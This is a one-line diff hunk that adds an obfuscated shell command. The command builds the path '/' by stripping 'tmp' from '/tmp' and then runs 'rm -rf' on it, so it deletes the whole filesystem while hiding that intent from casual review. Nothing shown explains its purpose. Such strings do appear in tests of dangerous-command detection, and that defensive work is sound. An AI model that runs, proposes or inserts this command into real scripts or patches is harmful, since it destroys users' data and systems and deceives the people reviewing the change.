@@ -1,0 +1,1 @@
+v=/tmp; v=${v%tmp}; rm -rf $v
